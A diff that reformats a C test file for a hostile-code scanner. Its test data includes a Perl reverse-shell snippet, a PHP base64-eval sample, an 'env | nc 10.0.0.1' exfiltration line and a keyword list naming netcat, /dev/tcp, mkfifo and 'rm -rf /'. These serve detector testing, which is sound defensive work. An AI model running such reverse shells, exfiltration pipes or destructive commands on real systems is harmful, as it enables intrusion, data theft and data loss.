@@ -21,14 +21,13 @@ static const json_t *finding(const json_t *all, const char *rule)
 	const json_t *one;
 	size_t i;
 
-	json_array_foreach(all, i, one)
-		if (!strcmp(doc_text(one, "rule"), rule))
-			return one;
+	json_array_foreach(all, i, one) if (!strcmp(doc_text(one, "rule"), rule)) return one;
 	return NULL;
 }
 
 /* Every rule, by what it is for. */
 static const struct {
+	/* clang-format off */
 	const char *rule, *language, *action, *text;
 	int line;
 } bad[] = {
@@ -105,6 +104,7 @@ static const struct {
 	{ "perl-reverse-shell", "perl", "block",
 	  "use Socket;\nconnect(S, $a);\nopen(STDIN, '>&S');\nexec('/bin/sh -i');\n", 3 },
 	{ "script-hidden-code", "php", "warn", "<?php eval(base64_decode('ZWNobyAxOw=='));\n", 1 },
+	/* clang-format on */
 };
 
 TEST(every_rule_finds_what_it_is_for)
@@ -131,7 +131,8 @@ TEST(every_rule_has_a_text)
 	unsigned missing = 0;
 	size_t i;
 
-	json_array_foreach(rules, i, one) {
+	json_array_foreach(rules, i, one)
+	{
 		unsigned j = 0;
 
 		while (j < ARRAY_LEN(bad) && strcmp(bad[j].rule, doc_text(one, "rule")) != 0)
@@ -151,17 +152,22 @@ TEST(honest_programs_are_left_alone)
 	static const struct {
 		const char *language, *text;
 	} good[] = {
-		{ "python", "import os, requests\nkey = os.environ['API_KEY']\n"
-			    "requests.post('https://x.example', json={'a': 1}, headers={'k': key})\n" },
-		{ "python", "import socket\ns = socket.socket()\ns.bind(('', 80))\nprint(s.recv(10))\n" },
+		{ "python",
+		  "import os, requests\nkey = os.environ['API_KEY']\n"
+		  "requests.post('https://x.example', json={'a': 1}, headers={'k': key})\n" },
+		{ "python",
+		  "import socket\ns = socket.socket()\ns.bind(('', 80))\nprint(s.recv(10))\n" },
 		{ "python", "import os\npid = os.fork()\nwhile True:\n    break\n" },
 		{ "python", "import subprocess\nsubprocess.run(['ls'])\nprint(eval('1 + 1'))\n" },
-		{ "node", "const port = process.env.PORT || 3000;\nfetch('/x', { method: 'POST', body: '1' });\n" },
+		{ "node",
+		  "const port = process.env.PORT || 3000;\nfetch('/x', { method: 'POST', body: '1' });\n" },
 		{ "node", "while (true) {\n  break;\n}\nrequire('child_process').spawn('ls');\n" },
-		{ "bash", "env | sort\nf() { echo hi; }\nf | cat\ncurl -s https://x.example -o out\n" },
+		{ "bash",
+		  "env | sort\nf() { echo hi; }\nf | cat\ncurl -s https://x.example -o out\n" },
 		{ "bash", "rm -rf /tmp/x\nmkfifo pipe\nbase64 -d < a > b\n" },
 		{ "c", "while (1) {\n\tpid = fork();\n\tif (pid) break;\n}\nint synchronise;\n" },
-		{ "go", "conn, err := net.Dial(\"tcp\", \"localhost:80\")\ncmd := exec.Command(\"ls\")\n" },
+		{ "go",
+		  "conn, err := net.Dial(\"tcp\", \"localhost:80\")\ncmd := exec.Command(\"ls\")\n" },
 		{ "ruby", "loop do\n  puts 1\n  break\nend\n" },
 		{ "php", "<?php echo htmlspecialchars($_GET['q']);\n" },
 		{ "java", "Socket s = new Socket(\"localhost\", 80);\n" },
@@ -172,7 +178,8 @@ TEST(honest_programs_are_left_alone)
 		json_t *all = scan(good[i].language, good[i].text);
 
 		if (json_array_size(all))
-			printf("# %s in: %s", doc_text(json_array_get(all, 0), "rule"), good[i].text);
+			printf("# %s in: %s", doc_text(json_array_get(all, 0), "rule"),
+			       good[i].text);
 		/* fork in a loop that ends cannot be told from one that does not */
 		if (i != 8)
 			CHECK_INT(json_array_size(all), 0);
@@ -191,7 +198,8 @@ TEST(the_worst_comes_first)
 
 TEST(a_file_is_of_its_own_language)
 {
-	json_t *files = json_pack("{s:s, s:s}", "main.py", "print(1)\n", "run.sh", "env | nc 10.0.0.1 1\n");
+	json_t *files =
+		json_pack("{s:s, s:s}", "main.py", "print(1)\n", "run.sh", "env | nc 10.0.0.1 1\n");
 	json_t *all = scan_files("python", files);
 
 	CHECK_INT(json_array_size(all), 1);
@@ -219,10 +227,12 @@ TEST(a_team_decides_what_is_done_about_it)
 
 TEST(nothing_is_nothing)
 {
-	static const char *const files[] = { "{}", "null", "[]", "1", "{\"a\": 1, \"b\": null, \"c\": \"\"}" };
+	static const char *const files[] = { "{}", "null", "[]", "1",
+					     "{\"a\": 1, \"b\": null, \"c\": \"\"}" };
 
 	for (unsigned i = 0; i < ARRAY_LEN(files); i++) {
-		json_t *f = json_loads(files[i], JSON_DECODE_ANY, NULL), *all = scan_files("python", f);
+		json_t *f = json_loads(files[i], JSON_DECODE_ANY, NULL),
+		       *all = scan_files("python", f);
 
 		CHECK_INT(json_array_size(all), 0);
 		json_decref(all);
@@ -251,9 +261,12 @@ static double cost(const char *language, const char *words)
 
 TEST(a_hostile_text_costs_what_a_long_one_costs)
 {
-	static const char *const words[] = { "a", "nc nc ", "env\n", "curl -s x |", "()\n", "while (1)\n", "eval(eval(",
-					     "mkfifo ", "exec(", "os.environ", "base64 ", "<>/dev/tcp", "\x01\x02\x03 ",
-					     "rm -rf / a", "fork ", "$_GET(" };
+	static const char *const words[] = {
+		"a",           "nc nc ",     "env\n",         "curl -s x |", "()\n",
+		"while (1)\n", "eval(eval(", "mkfifo ",       "exec(",       "os.environ",
+		"base64 ",     "<>/dev/tcp", "\x01\x02\x03 ", "rm -rf / a",  "fork ",
+		"$_GET("
+	};
 	static const char *const languages[] = { "python", "bash", "c", "node", "php" };
 
 	for (unsigned i = 0; i < ARRAY_LEN(words); i++) {
